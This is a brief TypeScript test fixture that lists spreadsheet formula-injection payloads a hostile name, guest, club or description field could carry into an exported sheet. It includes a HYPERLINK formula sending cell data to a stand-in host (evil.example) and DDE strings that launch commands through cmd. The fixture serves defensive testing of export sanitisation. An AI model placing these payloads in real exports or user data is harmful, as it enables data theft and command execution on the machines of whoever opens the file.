/** For tests: texts a hostile name, guest, club or description could carry into a spreadsheet as a formula. */
export const FORMULA_PAYLOADS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Refund")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
]
